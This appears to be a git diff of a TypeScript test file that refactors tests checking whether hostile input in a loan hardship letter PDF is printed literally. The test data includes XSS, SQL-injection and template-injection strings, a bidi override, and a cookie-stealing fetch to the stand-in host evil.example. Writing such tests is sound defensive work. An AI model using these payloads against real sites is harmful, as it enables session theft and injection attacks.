@@ -6,7 +6,8 @@
 import { readFileSync } from 'node:fs';
 import { describe, expect, it } from 'vitest';
 import { analyze } from '@/lib/analyze';
-import { letterFromJson } from '@/lib/letter';
+import { letterFromJson, type Letter } from '@/lib/letter';
+import type { Report } from '@/lib/report/types';
 import { renderPdf, renderPdfReporting, squeeze } from '../pdf/render-pdf';
 import { HOSTILE_DIR } from './hostile-files';
 
@@ -16,12 +17,18 @@ const json = {
   borrower: { name: '\u202Egnp.exe\u202C 王', address: '"><svg onload=alert(1)>' },
 };
 
+/** The English letter of a case that must analyse and make a letter. */
+function englishLetter(raw: Record<string, unknown>): { readonly letter: Letter; readonly report: Report } {
+  const analysed = analyze(raw);
+  if (!analysed.ok) throw new Error(JSON.stringify(analysed.errors));
+  const made = letterFromJson(raw, analysed.report, { language: 'en' });
+  if (!made.ok) throw new Error(made.message.en);
+  return { letter: made.letter, report: analysed.report };
+}
+
 describe('hostile text in the letter PDF', () => {
   it('markup and a bidi override are printed as the characters typed', async () => {
-    const analysed = analyze(json);
-    if (!analysed.ok) throw new Error(JSON.stringify(analysed.errors));
-    const made = letterFromJson(json, analysed.report, { language: 'en' });
-    if (!made.ok) throw new Error(made.message.en);
+    const made = englishLetter(json);
     const pdf = await renderPdf(made.letter, 'hostile-text');
     for (const text of ['<script>alert("x")</script>', "1'; DROP TABLE loans; --", '"><svg onload=alert(1)>', "</p><script>fetch('https://evil.example/?'+document.cookie)</script>${7*7}{{constructor.constructor('alert(1)')()}}"]) {
       // Whole: a token longer than a line wraps instead of being cut off at the page edge.
@@ -36,10 +43,7 @@ describe('hostile text in the letter PDF', () => {
   it('an unterminated override does not reverse the sentence around the name', async () => {
     // An adversarial review: "\u202E王" left the rest of the opening sentence printed backwards.
     const open = { ...json, borrower: { name: '\u202E王五' } };
-    const analysed = analyze(open);
-    if (!analysed.ok) throw new Error(JSON.stringify(analysed.errors));
-    const made = letterFromJson(open, analysed.report, { language: 'en' });
-    if (!made.ok) throw new Error(made.message.en);
+    const made = englishLetter(open);
     expect(JSON.stringify(made.letter)).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
     const pdf = await renderPdf(made.letter, 'open-override');
     expect(pdf.flat).toContain(squeeze('I, 王五,'));
@@ -49,10 +53,7 @@ describe('hostile text in the letter PDF', () => {
     // Noto Sans SC has no emoji and no Arabic: "محمد" was drawn from Helvetica as "=/E-E". 堃 and 喆 are in
     // the font (a rare file), so they print.
     const odd = { ...json, borrower: { name: '堃喆😀 محمد' } };
-    const analysed = analyze(odd);
-    if (!analysed.ok) throw new Error(JSON.stringify(analysed.errors));
-    const made = letterFromJson(odd, analysed.report, { language: 'en' });
-    if (!made.ok) throw new Error(made.message.en);
+    const made = englishLetter(odd);
     const told: string[][] = [];
     const pdf = await renderPdfReporting(made.letter, 'missing-glyphs', (chars) => told.push(chars));
     expect(told).toEqual([['😀', 'م', 'ح', 'د']]);
@@ -63,10 +64,7 @@ describe('hostile text in the letter PDF', () => {
   it('a web address longer than a line is printed in full, with no hyphen added', async () => {
     const url = `https://example.com/${'abcdefghij'.repeat(15)}/END`;
     const withUrl = { ...json, letter: { hardship: url } };
-    const analysed = analyze(withUrl);
-    if (!analysed.ok) throw new Error(JSON.stringify(analysed.errors));
-    const made = letterFromJson(withUrl, analysed.report, { language: 'en' });
-    if (!made.ok) throw new Error(made.message.en);
+    const made = englishLetter(withUrl);
     const pdf = await renderPdf(made.letter, 'long-url');
     expect(pdf.flat).toContain(url);
   });
